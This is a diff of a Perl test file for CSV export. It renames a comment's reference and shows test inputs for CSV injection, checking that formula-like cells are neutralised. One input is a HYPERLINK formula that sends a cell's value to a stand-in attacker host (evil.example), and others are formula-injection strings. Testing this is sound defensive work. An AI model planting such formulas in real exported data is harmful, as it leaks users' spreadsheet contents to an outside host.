@@ -70,7 +70,7 @@ sub csv_rows {
     like $res->content, qr/"Dam, ""Big""\r\nNorth/, 'quoting: doubled quotes inside a quoted field';
 }
 
-# CSV injection (issue 11): a cell a spreadsheet would run as a formula
+# CSV injection (docs/security.md): a cell a spreadsheet would run as a formula
 # starts with an apostrophe; negative numbers stay numbers
 {
     my @names = ('=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', "\tTAB", "\rCR");
